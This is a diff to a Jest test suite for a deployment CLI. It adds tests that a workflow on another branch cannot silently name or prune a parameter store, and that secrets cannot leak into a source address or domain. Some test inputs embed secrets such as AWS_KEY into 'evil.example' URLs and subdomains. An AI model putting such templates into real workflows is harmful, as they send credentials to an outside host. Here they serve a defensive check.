@@ -1,11 +1,12 @@
 import { execFileSync } from 'node:child_process';
 import { readFileSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
-import { describe, expect, test } from '@jest/globals';
+import { beforeEach, describe, expect, test } from '@jest/globals';
 import {
   bench,
   cloneOf,
   ended,
+  gitIn,
   platform,
   startCliEachTest,
   write,
@@ -286,6 +287,65 @@ describe('a parameter store that only a workflow of the clone names', () => {
   });
 });
 
+describe("a parameter store of this repository that another branch's own workflow names", () => {
+  const store = 'the parameter store shopconfig\n';
+  const named = 'config-service: shopconfig';
+
+  /** Returns a clone of acme/shop with a branch that has brought the workflow. */
+  function branch(inputs: string, options: CliOptions): Cli {
+    const started = clone(shop, `${names('shop')}, ${inputs}`, options);
+    const git = gitIn(started);
+    git('checkout', '-q', '-b', 'topic');
+    git('add', '.github');
+    git('commit', '-q', '-m', 'names a store');
+    git('update-ref', 'refs/remotes/origin/topic', 'HEAD');
+    return started;
+  }
+
+  beforeEach(async () => {
+    await run(clone(shop), 'config', 'create', 'shopconfig');
+    platform.log.clear();
+  });
+
+  test.each([
+    [['--preview-branch'], 'preview-options: "ConfigService: shopconfig"'],
+    [
+      ['--preview-branch', '--set', 'ConfigService=mine'],
+      'preview-options: "ConfigService: shopconfig"',
+    ],
+    [['--name', 'other'], named],
+    [['--name', 'other', '--set', 'ConfigService=mine'], named],
+    [['--any-branch'], 'options: "ConfigService: shopconfig"'],
+  ])('is given only after a yes: deploy %j, %s', async (argv, inputs) => {
+    const command = ['deploy', '--no-wait', ...argv];
+    const no = await run(branch(inputs, { confirmed: false }), ...command);
+    expect(no).toMatchObject(ended(2, store));
+    expect(sent()).not.toContain('ConfigService');
+    expect(await run(branch(inputs, { confirmed: true }), ...command)).toMatchObject(
+      ended(0, store),
+    );
+  });
+
+  test('is not asked about where a person types it, and not for the store of a preview itself', async () => {
+    const typed = ['deploy', '--no-wait', '--any-branch', '--config-service', 'shopconfig'];
+    expect(await run(branch(named, { confirmed: false }), ...typed)).toMatchObject(ended(0));
+    const own = `${named}, preview-config: "A: b"`;
+    const preview = ['deploy', '--no-wait', '--preview-branch'];
+    expect(await run(branch(own, { confirmed: false }), ...preview)).toMatchObject(ended(0));
+  });
+
+  test('is not emptied where no person can be asked', async () => {
+    const pruned = `${named}, config: "A: mine", config-prune: true`;
+    const refusal = await run(branch(pruned, {}), 'deploy', '--no-wait', '--any-branch');
+    expect(refusal).toMatchObject(
+      ended(
+        2,
+        /deletes all other variables.*not known as that of the default branch.*--config-service shopconfig/s,
+      ),
+    );
+  });
+});
+
 describe("what is the person's or the workspace's", () => {
   const deploy = ['deploy', '--no-wait'];
   const env = { AWS_KEY: 'a-key-of-amazon', OSC_SOURCE_TOKEN: 'token-of-source' };
@@ -378,7 +438,9 @@ describe("what is the person's or the workspace's", () => {
     ['source-ref: "${{ vars.AWS_KEY }}"', '--source-ref'],
     ['options: "SourceUrl: https://evil.example/${{ secrets.AWS_KEY }}/x"', '--set SourceUrl='],
     ['options: "{ SourceUrl: \'https://evil.example/{{secrets.apikey}}\' }"', '--set SourceUrl='],
-  ])('becomes no part of the address of a source: %s', async (inputs, option) => {
+    ['domain: "${{ vars.AWS_KEY }}.evil.example"', '--domain'],
+    ['domain: "{{secrets.apikey}}.evil.example"', '--domain'],
+  ])('becomes no part of the address of a source, nor of a domain: %s', async (inputs, option) => {
     for (const argv of [['plan'], deploy, ['run', '--no-wait']]) {
       const started = clone(evil, `${names('evil')}, ${inputs}`, { env, confirmed: true });
       const refusal = await run(started, ...argv);
